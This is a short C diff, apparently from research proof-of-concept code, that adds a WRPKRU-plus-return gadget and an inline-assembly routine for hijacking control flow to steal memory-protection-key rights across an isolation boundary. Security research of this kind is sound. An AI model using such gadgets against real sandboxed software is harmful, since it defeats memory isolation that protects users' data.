@@ -6,6 +6,8 @@
 
 #include "attack.h"
 
+const uint8_t stray[STRAY_SIZE] = {0x0f, 0x01, 0xef, RET};
+
 uint32_t code_rights(void)
 {
 	uint32_t rights, high;
@@ -72,6 +74,31 @@ bool code_steal(const void *code, bool resuming, const void *from, uint64_t to[2
 	to[0] = low;
 	to[1] = high;
 	return seen == ALL_RIGHTS;
+}
+
+void code_steal_inside(const void *code, const void *gadget, uint32_t rights, const void *from,
+                       uint64_t to[2])
+{
+	register const void *address __asm__("r10") = from;
+	register uint64_t application __asm__("r11") = code_rights();
+	register uint64_t low __asm__("r8");
+	register uint64_t high __asm__("r9");
+
+	__asm__ volatile("sub $128, %%rsp\n" /* below the red zone */
+	                 "lea 1f(%%rip), %%r9\n"
+	                 "push %%r9\n"
+	                 "push %[code]\n"
+	                 "push %[gadget]\n"
+	                 "mov %%ss, %%esi\n"
+	                 "xor %%ecx, %%ecx\n"
+	                 "xor %%edx, %%edx\n"
+	                 "jmp *%[code]\n"
+	                 "1: add $128, %%rsp"
+	                 : "+a"(rights), "=&r"(low), "=&r"(high)
+	                 : [code] "D"(code), [gadget] "b"(gadget), "r"(address), "r"(application)
+	                 : "memory", "cc", "rcx", "rdx", "rsi");
+	to[0] = low;
+	to[1] = high;
 }
 
 uint8_t *code_memory(unsigned pages)
